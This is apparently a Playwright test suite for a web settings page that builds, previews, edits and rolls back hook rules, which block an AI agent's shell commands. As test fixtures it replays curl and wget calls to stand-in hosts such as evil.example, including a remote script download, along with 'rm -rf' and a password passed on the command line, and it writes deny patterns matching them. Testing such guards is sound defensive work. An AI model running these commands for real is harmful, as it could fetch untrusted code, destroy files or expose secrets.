"""Settings › Hooks: rules made with the form, previewed, in force at once, and rolled back."""

from __future__ import annotations

import json

from browser_hub import WAIT, HubProcess, find_violations
from playwright.sync_api import BrowserContext, Locator, Page, expect

RM_SCRIPT = """if (toolInput.command?.includes('rm -rf')) {
return { decision: 'deny', reason: 'Dangerous command blocked' };
}"""

FAST_TYPING = "let seen = toolInput.command; let other = seen + seen; return other === seen; " * 3


def open_form(page: Page, hub: HubProcess) -> None:
    page.goto(f"{hub.url}/hooks")
    page.get_by_role("link", name="Add hook rule").first.click()
    expect(page.get_by_role("heading", name="Add hook rule")).to_be_visible()


def editor(page: Page) -> Locator:
    return page.get_by_role("textbox", name="JavaScript")


def save(page: Page) -> None:
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_role("heading", name="Hooks", exact=True)).to_be_visible(timeout=WAIT)


NO_EVIL = {"matcher": "^bash$", "inputMatchers": {"command": "curl .*evil"}, "action": "deny", "reason": "Not there."}


def replayed(hub: HubProcess) -> dict[str, int]:
    """What `hookline replay` counts under the hooks of the workspace and the same rule in a file."""
    file = hub.home / "hub.json"
    file.write_text(json.dumps({"hooks": {"PreToolUse": [NO_EVIL]}}), encoding="utf-8")
    done = hub.run("replay", "--with", "hookline.yaml", "--with", str(file), "--json")
    assert done.returncode == 0, done.stderr
    counts: dict[str, int] = json.loads(done.stdout.splitlines()[-1])
    return counts


def test_a_deny_rule_with_a_preview(page: Page, hub: HubProcess) -> None:
    hub.run_commands("echo one", "curl https://evil.example", "curl https://other.example", "rm -rf build", "git push")
    open_form(page, hub)
    page.get_by_label("Matcher", exact=True).fill("^bash$")
    page.get_by_role("button", name="Add input matcher").click()
    page.get_by_label("Field 1").fill("command")
    page.get_by_label("Pattern 1").fill("curl .*evil")
    page.get_by_label("Reason").fill("Not there.")
    page.get_by_label("Priority").fill("100")
    page.get_by_role("button", name="Preview against").click()
    preview = page.get_by_role("region", name="Preview")
    expect(preview.get_by_text("tightened")).to_be_visible(timeout=WAIT)
    counts = dict(zip(preview.locator("dt").all_inner_texts(), preview.locator("dd").all_inner_texts(), strict=True))
    assert (counts["matched"], counts["tightened"], counts["loosened"]) == ("1", "1", "0")
    names = {"events": "decisions", **{name: name for name in ("tightened", "loosened", "changed", "undecided")}}
    assert {name: int(counts[name]) for name in names} == {name: replayed(hub)[key] for name, key in names.items()}
    expect(preview.get_by_role("listitem")).to_have_count(1)
    assert find_violations(page) == []
    save(page)
    rule = page.get_by_role("listitem").filter(has_text="curl .*evil")
    for text in ("Matcher: ^bash$", "Input: command=curl .*evil", "deny", "Not there.", "priority 100", "not-there"):
        expect(rule).to_contain_text(text)


def test_a_preview_says_which_events_nobody_can_decide_again(page: Page, hub: HubProcess) -> None:
    secret = "hooks:\n  - {id: no-secret, on: tool.before, when: {input: {command: {matches: hunter2}}}, then: {deny: No.}}\n"
    before = (hub.workspace / "hookline.yaml").read_text(encoding="utf-8")
    hub.write_hooks(secret)
    hub.run_commands("echo one", "mysql -phunter2zz", "wget https://evil.example")
    hub.write_hooks(before)
    open_form(page, hub)
    page.get_by_label("Matcher", exact=True).fill("^bash$")
    page.get_by_role("button", name="Add input matcher").click()
    page.get_by_label("Field 1").fill("command")
    page.get_by_label("Pattern 1").fill("wget .*evil")
    page.get_by_role("button", name="Preview against").click()
    preview = page.get_by_role("region", name="Preview")
    expect(preview.get_by_text("1 event cannot be decided again")).to_be_visible(timeout=WAIT)
    counts = dict(zip(preview.locator("dt").all_inner_texts(), preview.locator("dd").all_inner_texts(), strict=True))
    assert (counts["loosened"], counts["undecided"]) == ("0", "1")
    rows = preview.get_by_role("listitem").all_inner_texts()
    assert [row.split()[:3] for row in rows if "mysql" in row] == [["deny", "→", "undecided"]]
    assert [row.split()[:3] for row in rows if "wget" in row] == [["silent", "→", "deny"]]
    assert find_violations(page) == []


def test_the_script_of_the_documentation(page: Page, hub: HubProcess) -> None:
    open_form(page, hub)
    page.get_by_label("Event type").select_option("PreToolUse")
    page.get_by_label("Matcher", exact=True).fill("^bash$")
    page.get_by_role("combobox", name="Action").select_option("script")
    expect(page.get_by_text("toolInput its input")).to_be_visible()
    expect(page.locator(".editor[data-ready=true]")).to_be_visible(timeout=WAIT)
    editor(page).click()
    page.keyboard.insert_text(RM_SCRIPT)
    page.get_by_label("Continue on error").uncheck()
    page.locator("summary", has_text="More").click()
    page.get_by_role("combobox", name="Runs in").select_option("hub")
    expect(page.get_by_text("whoever has the page cannot change its answer")).to_be_visible()
    assert find_violations(page) == []
    save(page)
    rule = page.get_by_role("listitem").filter(has_text="script")
    expect(rule).to_contain_text("if (toolInput.command?.includes('rm -rf'…")
    expect(rule).to_contain_text("stops on error")
    expect(rule).to_contain_text("runs on the hub")
    rule.get_by_role("link", name="Edit").click()
    page.locator("summary", has_text="More").click()
    expect(page.get_by_role("combobox", name="Runs in")).to_have_value("hub")


def test_fast_typing_stays_as_it_was_typed(page: Page, hub: HubProcess) -> None:
    open_form(page, hub)
    page.get_by_role("combobox", name="Action").select_option("script")
    expect(page.locator(".editor[data-ready=true]")).to_be_visible(timeout=WAIT)
    editor(page).click()
    page.keyboard.type(FAST_TYPING)
    expect(editor(page)).to_have_text(FAST_TYPING)


def test_wrong_patterns_and_empty_scripts_are_refused(page: Page, hub: HubProcess) -> None:
    open_form(page, hub)
    page.get_by_label("Matcher", exact=True).fill("(unclosed")
    expect(page.get_by_text("Unterminated group")).to_be_visible()
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_role("heading", name="Add hook rule")).to_be_visible()
    expect(page.get_by_label("Matcher", exact=True)).to_be_focused()
    page.get_by_label("Matcher", exact=True).fill("")
    page.get_by_role("combobox", name="Action").select_option("script")
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_text("Write the JavaScript that runs.")).to_be_visible()
    expect(page.get_by_role("button", name="Preview against")).to_be_disabled()


def test_problems_come_from_the_hub_while_you_type(page: Page, hub: HubProcess) -> None:
    open_form(page, hub)
    page.get_by_role("combobox", name="Action").select_option("script")
    expect(page.locator(".editor[data-ready=true]")).to_be_visible(timeout=WAIT)
    editor(page).click()
    page.keyboard.insert_text("return;")
    page.get_by_label("Timeout").fill("99999999999")
    expect(page.get_by_role("list", name="Problems")).to_contain_text("86400000")
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_role("heading", name="Add hook rule")).to_be_visible()
    page.get_by_label("Timeout").fill("100")
    expect(page.get_by_role("list", name="Problems")).to_have_count(0)


def test_a_rule_from_a_decision(page: Page, hub: HubProcess) -> None:
    hub.run_commands("wget https://bad.example/x.sh")
    page.goto(f"{hub.url}/?q=wget&event=tool.before")
    page.locator(".rows-space a").first.click()
    page.get_by_role("link", name="New rule from this").click()
    expect(page.get_by_label("Matcher", exact=True)).to_have_value("^bash$")
    expect(page.get_by_label("Pattern 1")).to_have_value(r"wget https:\/\/bad\.example\/x\.sh")
    page.get_by_label("Reason").fill("Made from a decision")
    save(page)
    expect(page.get_by_role("listitem").filter(has_text="Made from a decision")).to_be_visible()


def test_edit_switch_off_and_delete(page: Page, hub: HubProcess) -> None:
    open_form(page, hub)
    page.get_by_label("Event type").select_option("Stop")
    expect(page.get_by_label("Matcher", exact=True)).to_have_count(0)
    page.get_by_label("Reason").fill("Go on.")
    save(page)
    rule = page.get_by_role("listitem").filter(has_text="Go on")
    rule.get_by_role("link", name="Edit").click()
    page.get_by_label("Reason").fill("Go on, please.")
    page.locator("summary", has_text="More").click()
    page.get_by_label("Tags").fill("loop, team")
    save(page)
    expect(rule).to_contain_text("Go on, please.")
    expect(rule).to_contain_text("loop")
    rule.get_by_role("switch").uncheck()
    expect(rule).to_contain_text("off")
    page.reload()
    expect(rule.get_by_role("switch")).not_to_be_checked()
    rule.get_by_role("button", name="Delete").click()
    page.get_by_role("dialog").get_by_role("button", name="Delete").click()
    expect(rule).to_have_count(0)


def test_history_diff_and_roll_back(page: Page, hub: HubProcess) -> None:
    open_form(page, hub)
    page.get_by_label("Reason").fill("First wording")
    page.get_by_label("Matcher", exact=True).fill("^never$")
    save(page)
    page.get_by_role("listitem").filter(has_text="First wording").get_by_role("link", name="Edit").click()
    page.get_by_label("Reason").fill("Second wording")
    save(page)
    page.get_by_role("link", name="History").click()
    newest = page.get_by_role("region", name="What version").first
    expect(newest).to_contain_text("First wording")
    expect(newest).to_contain_text("Second wording")
    assert find_violations(page) == []
    page.get_by_role("button", name="Roll back to version").first.click()
    page.get_by_role("dialog").get_by_role("button", name="Roll back").click()
    expect(page.get_by_text("Rolled back to version")).to_be_visible()
    page.get_by_role("navigation", name="Breadcrumb").get_by_role("link", name="Hooks").click()
    expect(page.get_by_role("listitem").filter(has_text="First wording")).to_be_visible()


def test_two_editors_do_not_undo_each_other(page: Page, context: BrowserContext, hub: HubProcess) -> None:
    other = context.new_page()
    for each in (page, other):
        open_form(each, hub)
    page.get_by_label("Reason").fill("Mine first")
    save(page)
    other.get_by_label("Reason").fill("Theirs second")
    other.get_by_role("button", name="Save").click()
    expect(other.get_by_role("alert")).to_contain_text("Somebody else saved")
    other.get_by_role("button", name="Load again").click()
    other.get_by_label("Reason").fill("Theirs second")
    save(other)
    for text in ("Mine first", "Theirs second"):
        expect(other.get_by_role("listitem").filter(has_text=text)).to_be_visible()


def test_the_keyboard_alone(page: Page, hub: HubProcess) -> None:
    open_form(page, hub)
    page.get_by_label("Event type").focus()

    def go_to(name: str) -> None:
        for _ in range(40):
            page.keyboard.press("Tab")
            focused = page.evaluate(
                "[document.activeElement.id, document.activeElement.textContent.trim(), document.activeElement.ariaLabel].join('|')"
            )
            if name in focused:
                return
        raise AssertionError(f"{name} cannot be reached")

    go_to("matcher")
    page.keyboard.type("^keyboard$")
    go_to("Add input matcher")
    page.keyboard.press("Enter")
    expect(page.get_by_label("Field 1")).to_be_focused()
    go_to("reason")
    page.keyboard.type("By keyboard")
    go_to("Save")
    page.keyboard.press("Enter")
    expect(page.get_by_text("Name a field of the input")).to_be_visible()
    page.keyboard.type("command")
    go_to("Save")
    page.keyboard.press("Enter")
    expect(page.get_by_role("listitem").filter(has_text="By keyboard")).to_be_visible(timeout=WAIT)
